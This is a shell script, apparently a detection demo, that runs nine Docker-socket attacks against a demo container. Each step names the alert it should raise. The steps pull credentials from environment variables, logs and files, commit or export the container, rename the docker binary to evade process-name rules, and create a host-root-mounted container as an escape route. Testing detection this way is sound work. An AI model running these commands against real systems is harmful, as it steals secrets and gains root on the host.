#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Steals the secrets of the container $VICTIM through the Docker socket, in one
# way after another, and tells which alert each way must raise. What it creates
# is never started, and removed again.
set -eu
: "${VICTIM:=demo-victim}" "${PAUSE:=3}"

loot=$(mktemp -d)
clean() {
	docker rm -f demo-way-out >/dev/null 2>&1 || true
	docker rmi -f demo-stolen >/dev/null 2>&1 || true
	rm -rf "$loot"
}
trap clean EXIT
trap 'exit 1' INT TERM

number=0
# attack TITLE WHY ALERT COMMAND: explains a way, goes it and shows its loot.
attack() {
	number=$((number + 1))
	printf '\n%d. %s\n   %s\n   $ %s\n' "$number" "$1" "$2" "$4"
	sh -c "$4" >"$loot/out" 2>"$loot/err" || { cat "$loot/err"; echo "   it failed"; exit 1; }
	head -n 4 "$loot/out" | cut -c 1-100 | sed 's/^/   | /'
	printf '   alert: %s\n' "$3"
	sleep "$PAUSE"
}

echo "This container has no network, no capability and no file of the host."
echo "It has Docker's socket. The alerts are at http://127.0.0.1:2802"
sleep "$PAUSE"
export VICTIM loot

attack "List the containers" \
	"Who is here? Docker's own events say nothing of who asks." \
	"Docker Socket Used From Container" \
	'docker ps --format "{{.Names}} {{.Image}}"'
attack "Read a container's environment" \
	"Passwords are often there. Docker raises no event for it at all." \
	"Docker Credentials Read From Container" \
	'docker inspect --format "{{range .Config.Env}}{{println .}}{{end}}" $VICTIM | grep -v PATH='
attack "Read a container's log" \
	"Applications log their passwords. No event for this either." \
	"Docker Credentials Read From Container" \
	'docker logs $VICTIM'
attack "Run env in a container" \
	"The same environment, and what the application added to it." \
	"Docker Credentials Read From Container" \
	'docker exec $VICTIM env | grep dummy'
attack "Copy a file out of a container" \
	"No command runs in the container: its own logs show nothing." \
	"Docker Credentials Read From Container" \
	'docker cp $VICTIM:/app/credentials - | tar -xO'
attack "Take a container's whole file system" \
	"To search it at leisure elsewhere." \
	"Docker Credentials Read From Container" \
	'docker export $VICTIM | tar -xO app/credentials'
attack "Make an image of a container" \
	"To push it to a registry of one's own. The environment is in it as well." \
	"Docker Credentials Read From Container" \
	'docker commit $VICTIM demo-stolen'
attack "Read the environment with docker under another name" \
	"Rules that look for a process called docker miss this one." \
	"Docker Credentials Read From Container" \
	'cp $(command -v docker) $loot/backup-agent && $loot/backup-agent inspect --format "{{index .Config.Env 0}}" $VICTIM'
attack "Create a container with the host's files" \
	"The way out: who can create this one is root on the host. It is not started." \
	"Docker Container Created With Host Access" \
	'docker create --name demo-way-out -v /:/host "$(docker inspect --format "{{.Config.Image}}" $VICTIM)" true'

printf '\nDone: %d attacks. See them again: docker compose up attacker\n' "$number"
